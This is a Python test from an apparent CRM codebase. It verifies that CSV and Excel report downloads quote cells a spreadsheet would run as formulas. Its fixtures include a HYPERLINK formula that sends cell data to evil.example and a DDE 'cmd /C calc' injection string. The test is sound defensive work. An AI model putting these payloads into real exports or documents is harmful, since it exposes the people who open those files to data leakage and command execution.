"""Report downloads are safe to open: text a spreadsheet would run as a formula is
neutralised with a leading quote (OWASP CSV injection), control characters never make
an export fail, and numbers stay numbers."""
from __future__ import annotations

import csv
import io
import uuid
from decimal import Decimal

from openpyxl import load_workbook

from crmkit.clock import local_date, utcnow

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
BELL_NAME = "响铃\x07公司\x1b"
# loss reason -> the cell it makes (a plain number is no formula: left as it is)
REASONS = {"@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3": "'-2+3", "+cmd": "'+cmd", "-5": "-5", "价格过高": "价格过高"}


def csv_rows(session, report: str) -> list[list[str]]:
    reply = session.get(f"/api/v1/reports/{report}?format=csv")
    assert reply.status_code == 200, reply
    return list(csv.reader(io.StringIO(reply.data.decode("utf-8-sig"), newline="")))


def xlsx_rows(session, report: str) -> list[tuple]:
    reply = session.get(f"/api/v1/reports/{report}?format=xlsx")
    assert reply.status_code == 200, reply
    return list(load_workbook(io.BytesIO(reply.data)).active.iter_rows(values_only=True))


def test_formulas_are_neutralised_and_control_characters_do_not_break_exports(
        system, people, bus, produce, projected):
    rep = people.rep1.id
    evil, bell = uuid.uuid4().hex, uuid.uuid4().hex
    events = [produce.customer_created(evil, rep, name=FORMULA_NAME),
              produce.customer_created(bell, rep, name=BELL_NAME)]
    for number, (customer, amount) in enumerate(((evil, "900.00"), (bell, "100.00"))):
        oid = uuid.uuid4().hex
        events += [produce.opportunity_created(oid, rep, amount, customer=customer),
                   produce.won(oid, amount, local_date(utcnow()).isoformat())]
    for reason in REASONS:
        oid = uuid.uuid4().hex
        events += [produce.opportunity_created(oid, rep, "10.00", customer=evil),
                   produce.lost(oid, reason)]
    bus(*events)
    projected(events)

    # customer value: the names are text, the amounts and counts numbers
    text = csv_rows(people.admin, "customer-value")
    names = [row[1] for row in text[1:]]
    assert "'" + FORMULA_NAME in names and FORMULA_NAME not in names
    assert "响铃公司" in names
    sheet = xlsx_rows(people.admin, "customer-value")
    by_name = {row[1]: row for row in sheet[1:]}
    assert set(by_name) >= {"'" + FORMULA_NAME, "响铃公司"}
    evil_row = by_name["'" + FORMULA_NAME]
    assert isinstance(evil_row[3], int) and evil_row[3] == 1         # deals
    assert Decimal(str(evil_row[4])) == Decimal("900.00")            # amount, a number

    # win / loss: every reason a spreadsheet would run is quoted, no other
    wanted = set(REASONS.values())
    reasons = {row[1] for row in csv_rows(people.admin, "win-loss")[1:]
               if row[0].startswith("输单原因")}
    assert reasons == wanted
    reasons = {row[1] for row in xlsx_rows(people.admin, "win-loss")[1:]
               if str(row[0]).startswith("输单原因")}
    assert reasons == wanted
